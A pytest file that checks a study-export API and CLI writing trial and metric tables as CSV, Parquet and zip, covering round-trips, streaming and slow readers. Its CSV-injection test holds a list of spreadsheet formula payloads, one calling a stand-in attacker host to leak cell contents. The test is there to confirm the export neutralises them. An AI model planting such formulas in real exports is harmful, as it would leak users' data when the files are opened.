"""GET /v1/studies/{id}/export (CSV, Parquet, zip of both tables) and `qkscope export`, on real
SQLite and PostgreSQL databases. Rows are seeded with the ORM; every file is read back with the
csv module, pyarrow.csv or pyarrow.parquet and compared with what was inserted."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session, sessionmaker

from service.config import Settings
from service.read.export import export_stream
from service.store.models import CURRENT_PENALTY_VERSION, Metric, Trial
from service.store.session import make_engine
from tests.service.conftest import create_via_api, live_api

T0 = datetime(2026, 3, 4, 5, 6, 7, 123456, tzinfo=UTC)

SPACE: dict[str, Any] = {
    "regularizer.lambda": {"type": "float", "low": 0.0001, "high": 1.0, "log": True},
    "model.n_layers": {"type": "int", "low": 1, "high": 4},
    "model.norm": {"type": "categorical", "choices": ["pre", "post"]},
    "model.skip": {"type": "categorical", "choices": [True, False]},
}
# number, state, lambda, n_layers, norm, skip, value, summary numbers, flags, feasible
TRIALS: list[dict[str, Any]] = [
    {"number": 0, "state": "COMPLETE", "lam": 0.5, "nl": 2, "norm": "pre", "skip": True,
     "value": 2.125, "mne": 0.35, "ec": False, "rc": False, "trapped": False, "feasible": True,
     "cls": "healthy"},
    {"number": 1, "state": "COMPLETE", "lam": 0.0021, "nl": 4, "norm": "post", "skip": False,
     "value": 1.7000000000000002, "mne": 0.05, "ec": True, "rc": True, "trapped": False,
     "feasible": False, "cls": "both"},
    {"number": 2, "state": "PRUNED", "lam": 0.03, "nl": 1, "norm": "pre", "skip": True,
     "value": 2.9, "mne": 0.2, "ec": False, "rc": True, "trapped": False, "feasible": None,
     "cls": "rank_collapse"},
    {"number": 3, "state": "DIVERGED", "lam": 0.9, "nl": 3, "norm": "post", "skip": False,
     "value": None, "mne": None, "ec": True, "rc": False, "trapped": False, "feasible": None,
     "cls": "diverged"},
    {"number": 4, "state": "RUNNING", "lam": 1e-4, "nl": 1, "norm": "pre", "skip": True,
     "value": None, "mne": None, "ec": None, "rc": None, "trapped": None, "feasible": None,
     "cls": None},
]  # fmt: skip
METRIC_TRIALS = (0, 1, 3)


def summary_of(d: dict[str, Any]) -> dict[str, Any] | None:
    if d["state"] == "RUNNING":
        return None
    n = d["number"]
    return {
        "status": {"DIVERGED": "diverged", "PRUNED": "pruned"}.get(d["state"], "completed"),
        "final_val_loss": d["value"],
        "best_val_loss": None if d["value"] is None else d["value"] - 0.1,
        "final_train_loss": 1.0 + n / 8,
        "min_norm_entropy": d["mne"],
        "min_norm_entropy_ever": None if d["mne"] is None else d["mne"] / 2,
        "final_rank_ratio": 0.25 + n / 16,
        "qk_eig_var": 0.001 * (n + 1),
        "qk_eig_mean": -0.5 + n,
        "qk_eig_mean_rank": -1.0 + 2 * n,
        "plateau_count": n,
        "plateau_steps": 10 * n,
        "longest_plateau": 5 * n,
        "entropy_collapse": d["ec"],
        "rank_collapse": d["rc"],
        "trapped": d["trapped"],
        "init_val_loss": 4.0 + n / 10,  # eval_at_init numbers are exported too
        "top1_mass": 0.1 * n,
        "target_mass": None if n == 0 else 0.5 + n / 100,
        "max_attn_logit": 3.0 + n,  # METRICS.md 9
        "max_attn_logit_ever": 4.5 + n,
        "max_abs_output_log_z_ever": None if n == 1 else 0.25 * n,
        "config_hash": f"{n:016x}",  # provenance, from the summary
        "code_commit": "0123abcd" + "+dirty" * (n % 2),
        "eval_steps": [0, 50, 100],
        "val_losses": [3.0, 2.5, d["value"]],
    }


def metric_rows(number: int) -> list[tuple[str, int | None, int | None, int, float | None]]:
    rows: list[tuple[str, int | None, int | None, int, float | None]] = []
    for step in (0, 50, 100):
        rows.append(("val_loss", None, None, step, 3.0 - step / 70 + number))
        rows.append(("train_loss", None, None, step, None if step == 50 else 3.1 - step / 90))
        for layer in (0, 1, 2):
            rows.append(("rank_ratio", layer, None, step, 0.5 + layer / 7 - step / 1000))
        for layer in (0, 1):
            for head in (0, 1):
                rows.append(("attn_entropy_norm", layer, head, step, 0.9 - (layer + head) / 13))
    return rows


# --- fixtures -------------------------------------------------------------------------------


def seed(engine: Engine, sid: int, n_objectives: int = 1) -> dict[int, int]:
    with Session(engine) as s:
        for d in TRIALS:
            v = d["value"]
            values = None if v is None else [v, -v][:n_objectives]
            s.add(
                Trial(
                    study_id=sid,
                    number=d["number"],
                    state=d["state"],
                    params={
                        "regularizer.lambda": d["lam"],
                        "model.n_layers": d["nl"],
                        "model.norm": d["norm"],
                        "model.skip": d["skip"],
                    },
                    seed=100 + d["number"],
                    attempts=1 + d["number"] % 2,
                    node=None if d["state"] == "RUNNING" else f"node-{d['number']}",
                    value=v,
                    values=values,
                    feasible=d["feasible"],
                    summary=summary_of(d),
                    error='boom, "quoted"\nsecond line' if d["state"] == "DIVERGED" else None,
                    last_step=100,
                    metric_rows=len(metric_rows(0)) if d["number"] in METRIC_TRIALS else 0,
                    final_val_loss=v,
                    min_norm_entropy=d["mne"],
                    final_rank_ratio=None if d["state"] == "RUNNING" else 0.25 + d["number"] / 16,
                    qk_eig_var=None if d["state"] == "RUNNING" else 0.001 * (d["number"] + 1),
                    plateau_steps=None if d["state"] == "RUNNING" else 10 * d["number"],
                    entropy_collapse=d["ec"],
                    rank_collapse=d["rc"],
                    trapped=d["trapped"],
                    started_at=T0 + timedelta(minutes=d["number"]),
                    finished_at=None
                    if d["state"] == "RUNNING"
                    else T0 + timedelta(minutes=d["number"], seconds=30),
                    duration_s=None if d["state"] == "RUNNING" else 30.0 + d["number"] / 4,
                )
            )
        s.commit()
        ids = dict(s.execute(select(Trial.number, Trial.id).where(Trial.study_id == sid)).all())
        for n in METRIC_TRIALS:
            s.add_all(
                Metric(trial_id=ids[n], name=name, layer=-1 if la is None else la,
                       head=-1 if h is None else h, step=st, value=val)
                for name, la, h, st, val in metric_rows(n)
            )  # fmt: skip
        s.commit()
    return {int(k): int(v) for k, v in ids.items()}


@pytest.fixture(scope="module")
def seeded(client: TestClient, engine: Engine) -> dict[str, Any]:
    sid = create_via_api(
        client, {"name": "export", "budget": {"n_trials": 10}, "search_space": SPACE}
    )
    return {"sid": sid, "ids": seed(engine, sid)}


# --- what the files must hold ---------------------------------------------------------------

FIXED_COLUMNS = [
    "study_id", "study_name", "trial_id", "number", "state", "value", "feasible", "seed", "attempts",
    "node", "last_step", "penalty_version", "config_hash", "code_commit", "metric_rows",
    "started_at", "finished_at", "duration_s", "error", "stop_reason", "status",
    "final_val_loss", "best_val_loss", "final_train_loss", "min_norm_entropy",
    "min_norm_entropy_ever", "final_rank_ratio", "qk_eig_var", "qk_eig_mean", "qk_eig_mean_rank",
    "plateau_count", "plateau_steps", "longest_plateau", "entropy_collapse", "rank_collapse", "trapped",
    "init_val_loss", "init_min_norm_entropy", "init_rank_ratio", "init_qk_eig_var",
    "top1_mass", "target_mass", "max_attn_logit", "max_attn_logit_ever",
    "max_abs_output_log_z_ever", "collapse_class",
]  # fmt: skip
PARAM_COLUMNS = [f"params.{p}" for p in SPACE]


def expected_trials(sid: int, ids: dict[int, int]) -> list[dict[str, Any]]:
    out = []
    for d in TRIALS:
        n, s = d["number"], summary_of(d) or {}
        running = d["state"] == "RUNNING"
        row: dict[str, Any] = {
            "study_id": sid,
            "study_name": "export",
            "trial_id": ids[n],
            "number": n,
            "state": d["state"],
            "value": d["value"],
            "feasible": d["feasible"],
            "seed": 100 + n,
            "attempts": 1 + n % 2,
            "node": None if running else f"node-{n}",
            "last_step": 100,
            "penalty_version": CURRENT_PENALTY_VERSION,  # seeded rows take the ORM default
            "metric_rows": len(metric_rows(0)) if n in METRIC_TRIALS else 0,
            "started_at": T0 + timedelta(minutes=n),
            "finished_at": None if running else T0 + timedelta(minutes=n, seconds=30),
            "duration_s": None if running else 30.0 + n / 4,
            "error": 'boom, "quoted"\nsecond line' if d["state"] == "DIVERGED" else None,
            "stop_reason": None,
            "status": s.get("status"),
            "collapse_class": d["cls"],
            "params.regularizer.lambda": d["lam"],
            "params.model.n_layers": d["nl"],
            "params.model.norm": d["norm"],
            "params.model.skip": d["skip"],
        }
        for k in FIXED_COLUMNS:
            if k not in row:
                row[k] = s.get(k)
        out.append(row)
    return out


def expected_metrics(ids: dict[int, int]) -> list[dict[str, Any]]:
    rows = []
    for n in METRIC_TRIALS:
        for name, la, h, st, val in metric_rows(n):
            rows.append({"number": n, "trial_id": ids[n], "name": name, "layer": la, "head": h,
                         "step": st, "value": val})  # fmt: skip

    def key(r: dict[str, Any]) -> tuple[Any, ...]:
        nix = -1
        return (r["number"], r["name"], r["layer"] if r["layer"] is not None else nix,
                r["head"] if r["head"] is not None else nix, r["step"])  # fmt: skip

    return sorted(rows, key=key)


def parse_csv_cell(column: str, text: str) -> Any:
    """The inverse of the documented CSV encoding, column by column."""
    if text == "":
        return None
    if column in ("started_at", "finished_at"):
        return datetime.fromisoformat(text)
    if column in ("feasible", "entropy_collapse", "rank_collapse", "trapped", "params.model.skip"):
        assert text in ("true", "false"), (column, text)
        return text == "true"
    ints = {"study_id", "trial_id", "number", "seed", "attempts", "last_step", "metric_rows",
            "penalty_version",
            "plateau_count", "plateau_steps", "longest_plateau", "params.model.n_layers",
            "layer", "head", "step"}  # fmt: skip
    if column in ints:
        return int(text)
    strings = {"state", "node", "error", "stop_reason", "status", "collapse_class",
               "params.model.norm", "name", "study_name", "config_hash", "code_commit"}  # fmt: skip
    if column in strings:
        return text
    return float(text)


def read_csv(data: bytes) -> tuple[list[str], list[dict[str, Any]]]:
    reader = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    header = next(reader)
    rows = [{c: parse_csv_cell(c, v) for c, v in zip(header, r, strict=True)} for r in reader]
    return header, rows


def get(client: TestClient, sid: int, **params: Any) -> Any:
    r = client.get(f"/v1/studies/{sid}/export", params=params)
    assert r.status_code == 200, r.text
    return r


# --- trials ---------------------------------------------------------------------------------


def test_trials_csv_round_trips(client: TestClient, seeded: dict[str, Any]) -> None:
    sid = seeded["sid"]
    r = get(client, sid)  # format=csv, the trials table, by default
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == f'attachment; filename="study-{sid}-trials.csv"'
    header, rows = read_csv(r.content)
    assert header == FIXED_COLUMNS + PARAM_COLUMNS
    assert rows == expected_trials(sid, seeded["ids"])
    # pyarrow's CSV reader sees the same table (types inferred from the text).
    table = pacsv.read_csv(io.BytesIO(r.content))
    assert table.column_names == header and table.num_rows == len(TRIALS)
    assert table.column("params.regularizer.lambda").to_pylist() == [d["lam"] for d in TRIALS]
    assert table.column("params.model.skip").to_pylist() == [d["skip"] for d in TRIALS]
    assert table.column("entropy_collapse").to_pylist() == [d["ec"] for d in TRIALS]


def test_trials_parquet_round_trips_with_types(client: TestClient, seeded: dict[str, Any]) -> None:
    sid = seeded["sid"]
    r = get(client, sid, format="parquet")
    assert r.headers["content-type"] == "application/vnd.apache.parquet"
    assert r.headers["content-disposition"] == f'attachment; filename="study-{sid}-trials.parquet"'
    table = pq.read_table(io.BytesIO(r.content))
    assert table.column_names == FIXED_COLUMNS + PARAM_COLUMNS
    types = dict(zip(table.schema.names, table.schema.types, strict=True))
    assert types["number"] == pa.int64() and types["value"] == pa.float64()
    assert types["feasible"] == pa.bool_() and types["state"] == pa.string()
    assert types["started_at"] == pa.timestamp("us", tz="UTC")
    assert types["params.regularizer.lambda"] == pa.float64()
    assert types["params.model.n_layers"] == pa.int64()
    assert types["params.model.norm"] == pa.string()
    assert types["params.model.skip"] == pa.bool_()
    assert types["plateau_count"] == pa.int64() and types["entropy_collapse"] == pa.bool_()
    assert table.to_pylist() == expected_trials(sid, seeded["ids"])


def test_multi_objective_studies_get_one_column_per_objective(
    client: TestClient, engine: Engine
) -> None:
    body = {
        "name": "export-mo",
        "budget": {"n_trials": 10},
        "search_space": SPACE,
        "objectives": [
            {"metric": "final_val_loss"},
            {"metric": "min_norm_entropy", "direction": "maximize"},
        ],
    }
    sid = create_via_api(client, body)
    seed(engine, sid, n_objectives=2)
    table = pq.read_table(io.BytesIO(get(client, sid, format="parquet").content))
    names = table.column_names
    assert names[names.index("value") + 1 : names.index("value") + 3] == ["values.0", "values.1"]
    assert table.column("values.0").to_pylist() == [d["value"] for d in TRIALS]
    assert table.column("values.1").to_pylist() == [
        None if d["value"] is None else -d["value"] for d in TRIALS
    ]
    header, rows = read_csv(get(client, sid).content)
    assert [r["values.1"] for r in rows] == table.column("values.1").to_pylist()


# --- metrics ---------------------------------------------------------------------------------


def test_metrics_table_csv_and_parquet(client: TestClient, seeded: dict[str, Any]) -> None:
    sid = seeded["sid"]
    expected = expected_metrics(seeded["ids"])
    assert len(expected) == len(METRIC_TRIALS) * len(metric_rows(0))
    r = get(client, sid, table="metrics")
    assert r.headers["content-disposition"] == f'attachment; filename="study-{sid}-metrics.csv"'
    header, rows = read_csv(r.content)
    assert header == ["number", "trial_id", "name", "layer", "head", "step", "value"]
    assert rows == expected
    table = pq.read_table(io.BytesIO(get(client, sid, table="metrics", format="parquet").content))
    assert table.schema.field("layer").type == pa.int64()
    assert table.schema.field("value").type == pa.float64()
    assert table.to_pylist() == expected


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_metrics_true_is_a_zip_of_both_tables(
    client: TestClient, seeded: dict[str, Any], fmt: str
) -> None:
    sid = seeded["sid"]
    r = get(client, sid, format=fmt, metrics="true")
    assert r.headers["content-type"] == "application/zip"
    assert r.headers["content-disposition"] == f'attachment; filename="study-{sid}-{fmt}.zip"'
    with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
        assert zf.namelist() == [f"trials.{fmt}", f"metrics.{fmt}"]
        assert zf.testzip() is None  # every member's CRC checks out
        trials, metrics = zf.read(f"trials.{fmt}"), zf.read(f"metrics.{fmt}")
    if fmt == "csv":
        assert read_csv(trials)[1] == expected_trials(sid, seeded["ids"])
        assert read_csv(metrics)[1] == expected_metrics(seeded["ids"])
    else:
        assert pq.read_table(io.BytesIO(trials)).to_pylist() == expected_trials(sid, seeded["ids"])
        assert pq.read_table(io.BytesIO(metrics)).to_pylist() == expected_metrics(seeded["ids"])


def test_empty_study_exports_headers_and_empty_tables(client: TestClient) -> None:
    sid = create_via_api(
        client, {"name": "empty", "budget": {"n_trials": 1}, "search_space": SPACE}
    )
    header, rows = read_csv(get(client, sid).content)
    assert header == FIXED_COLUMNS + PARAM_COLUMNS and rows == []
    table = pq.read_table(io.BytesIO(get(client, sid, format="parquet").content))
    assert table.num_rows == 0 and table.column_names == FIXED_COLUMNS + PARAM_COLUMNS
    with zipfile.ZipFile(
        io.BytesIO(get(client, sid, format="parquet", metrics="true").content)
    ) as zf:
        assert pq.read_table(io.BytesIO(zf.read("metrics.parquet"))).num_rows == 0


# --- CSV injection ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-1+2",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    client: TestClient, engine: Engine
) -> None:
    """Issue 27: strings from the study (a categorical parameter's choices, a trial's error
    or node) went into the CSV as they were, so `=HYPERLINK(...)` ran when the file was
    opened in a spreadsheet. Now such a string cell starts with a single quote (OWASP);
    numbers, negative ones included, and number literals in string columns stay as they
    are; Parquet keeps the strings as stored."""
    choices = [*FORMULAS, "plain"]
    sid = create_via_api(
        client,
        {
            "name": "formulas",
            "budget": {"n_trials": 10},
            "search_space": {"task.train_split": {"type": "categorical", "choices": choices}},
        },
    )
    with Session(engine) as s:
        for n, text in enumerate(choices):
            s.add(
                Trial(
                    study_id=sid,
                    number=n,
                    state="FAILED",
                    params={"task.train_split": text, "mixed": -3 if n % 2 else text},
                    value=-1.5 - n,
                    error=text,
                    node=f"@node-{n}",
                    summary={"qk_eig_mean": -0.25},
                )
            )
        s.commit()
    r = get(client, sid)
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8"), newline="")))
    assert len(rows) == len(choices)
    for n, (row, text) in enumerate(zip(rows, choices, strict=True)):
        want = text if text == "plain" else "'" + text
        assert row["params.task.train_split"] == want, (row, text)
        assert row["error"] == want
        assert row["node"] == f"'@node-{n}"
        assert row["params.mixed"] == ("-3" if n % 2 else want)
        assert row["value"] == repr(-1.5 - n) and row["qk_eig_mean"] == "-0.25"
    table = pacsv.read_csv(io.BytesIO(r.content))
    assert table.column("value").type == pa.float64()  # the negatives are still numbers
    stored = pq.read_table(io.BytesIO(get(client, sid, format="parquet").content))
    assert stored.column("params.task.train_split").to_pylist() == choices


# --- streaming -----------------------------------------------------------------------------


@pytest.mark.parametrize(("fmt", "what"), [("csv", "metrics"), ("parquet", "metrics"),
                                           ("csv", "both"), ("parquet", "trials")])  # fmt: skip
def test_export_streams_batch_by_batch(
    client: TestClient, seeded: dict[str, Any], module_db_url: str, fmt: Any, what: Any
) -> None:
    """Small batches: many chunks, and their concatenation is the same file."""
    engine = make_engine(module_db_url)
    try:
        sessions = sessionmaker(engine, expire_on_commit=False)
        chunks = list(export_stream(sessions, seeded["sid"], fmt, what, batch=7))
    finally:
        engine.dispose()
    n_rows = len(expected_metrics(seeded["ids"])) if what != "trials" else len(TRIALS)
    # Deflate holds small blocks back, so a zip of a small study comes in fewer chunks.
    assert len(chunks) >= (2 if what == "both" else n_rows // 7) and all(chunks)
    data = b"".join(chunks)
    if what == "both":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            data = zf.read("metrics.csv")
    if fmt == "csv":
        assert read_csv(data)[1] == expected_metrics(seeded["ids"])
    else:
        table = pq.read_table(io.BytesIO(data))
        if what == "trials":
            assert table.to_pylist() == expected_trials(seeded["sid"], seeded["ids"])
        else:
            assert pq.ParquetFile(io.BytesIO(data)).num_row_groups == -(-n_rows // 7)
            assert table.to_pylist() == expected_metrics(seeded["ids"])


# --- slow readers ----------------------------------------------------------------------------


def test_slow_export_readers_do_not_starve_other_requests(pg_db_url: str, tmp_path: Path) -> None:
    """Issue 27: an export held one transaction, and so one pooled PostgreSQL connection,
    for its whole download; 30 clients that read slowly (the pool: 10 + 20 overflow) left
    none for anyone else, whose requests waited 30 s for the pool and failed. Now every
    batch is a short transaction of its own: 32 stalled export downloads over real sockets
    (uvicorn, small socket buffers so that each stalls after a batch or two), and a study's
    page still answers at once."""
    import contextlib
    import socket
    import threading
    import time

    import httpx
    import psycopg
    import uvicorn

    from service.app import create_app
    from service.store import migrate
    from tests.service import ui_seed

    migrate.upgrade(pg_db_url)
    engine = make_engine(pg_db_url)
    try:
        sid = ui_seed.add_study(engine, "slow")
        tid = ui_seed.add_trial(engine, sid, 0, "COMPLETE", ())
    finally:
        engine.dispose()
    copy = "COPY qk_metric (trial_id, name, layer, head, step, value) FROM STDIN"
    with psycopg.connect(pg_db_url) as conn, conn.cursor() as cur, cur.copy(copy) as cp:
        for i in range(100_000):  # 5 batches of 20,000
            cp.write_row((tid, "attn_entropy_norm", i % 4, i % 8, i, i / 7))
    settings = Settings(database_url=pg_db_url, ray_address="", api_tokens="", home=tmp_path)
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8192)  # accepted sockets inherit
    listener.bind(("127.0.0.1", 0))
    listener.listen(128)
    port = listener.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(create_app(settings, reconcile_loop=False), log_level="warning")
    )
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    readers: list[socket.socket] = []
    try:
        deadline = time.monotonic() + 60
        while not server.started:
            assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
            time.sleep(0.05)
        for _ in range(32):
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # a slow reader
            sock.connect(("127.0.0.1", port))
            sock.sendall(
                f"GET /v1/studies/{sid}/export?table=metrics HTTP/1.1\r\nHost: t\r\n\r\n".encode()
            )
            readers.append(sock)
        heads = [b""] * len(readers)

        def read_heads(seconds: float) -> int:
            """Each reader takes its headers and a first chunk, then stops reading."""
            deadline = time.monotonic() + seconds
            for i, sock in enumerate(readers):
                if not heads[i]:
                    sock.settimeout(max(0.1, deadline - time.monotonic()))
                    with contextlib.suppress(TimeoutError):
                        heads[i] = sock.recv(64)
            return sum(h.startswith(b"HTTP/1.1 200") for h in heads)

        started = read_heads(30)
        assert started >= 30, started
        # Wait for the server to go quiet (every download stalled on its full buffers), so
        # that what the request below meets is the pool, not CPU still making CSV.
        cpu = time.process_time()
        for _ in range(120):
            time.sleep(0.5)
            cpu, spent = time.process_time(), time.process_time() - cpu
            if spent < 0.05:
                break
        t0 = time.monotonic()
        r = httpx.get(f"http://127.0.0.1:{port}/v1/studies/{sid}", timeout=40)
        waited = time.monotonic() - t0
        assert r.status_code == 200, r.text
        assert waited < 5.0, waited
        # Every download started: on a loaded machine the last few may only now get their
        # headers; with one transaction per download they would wait for the pool and fail.
        assert read_heads(60) == 32, heads
    finally:
        for sock in readers:
            sock.close()
        server.should_exit = True
        thread.join(timeout=15)


# --- errors and auth -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "xlsx"}, "format"),
        ({"table": "studies"}, "table"),
        ({"metrics": "maybe"}, "metrics"),
        ({"metrics": "true", "table": "trials"}, "table"),
    ],
)
def test_bad_parameters_are_422_naming_them(
    client: TestClient, seeded: dict[str, Any], params: dict[str, str], field: str
) -> None:
    r = client.get(f"/v1/studies/{seeded['sid']}/export", params=params)
    assert r.status_code == 422, r.text
    body = r.json()
    assert body["error"] == "validation_error" and [e["field"] for e in body["errors"]] == [field]


def test_unknown_study_is_404_and_token_is_required(
    client: TestClient, seeded: dict[str, Any]
) -> None:
    for params in ({}, {"format": "parquet"}, {"metrics": "true"}):
        r = client.get("/v1/studies/987654/export", params=params)
        assert r.status_code == 404 and r.json()["error"] == "not_found", r.text
        for headers in ({"Authorization": ""}, {"Authorization": "Bearer wrong"}):
            r = client.get(f"/v1/studies/{seeded['sid']}/export", params=params, headers=headers)
            assert r.status_code == 401 and r.json()["error"] == "unauthorized"
            assert r.headers["www-authenticate"] == "Bearer"


# --- the CLI -------------------------------------------------------------------------------


def test_cli_export_downloads_the_tables(
    seeded: dict[str, Any], app_settings: Settings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from service import cli

    sid = seeded["sid"]
    monkeypatch.chdir(tmp_path)
    with live_api(app_settings, monkeypatch):
        assert cli.main(["export", str(sid)]) == 0
        assert read_csv((tmp_path / f"study-{sid}-trials.csv").read_bytes())[1] == expected_trials(
            sid, seeded["ids"]
        )
        out = tmp_path / "all.zip"
        assert (
            cli.main(["export", str(sid), "--format", "parquet", "--metrics", "--out", str(out)])
            == 0
        )
        with zipfile.ZipFile(out) as zf:
            metrics = pq.read_table(io.BytesIO(zf.read("metrics.parquet"))).to_pylist()
        assert metrics == expected_metrics(seeded["ids"])
        assert cli.main(["export", str(sid), "--table", "metrics"]) == 0
        assert read_csv((tmp_path / f"study-{sid}-metrics.csv").read_bytes())[1] == metrics
        assert cli.main(["export", "987654", "--out", str(tmp_path / "none.csv")]) == 1
        assert not (tmp_path / "none.csv").exists()
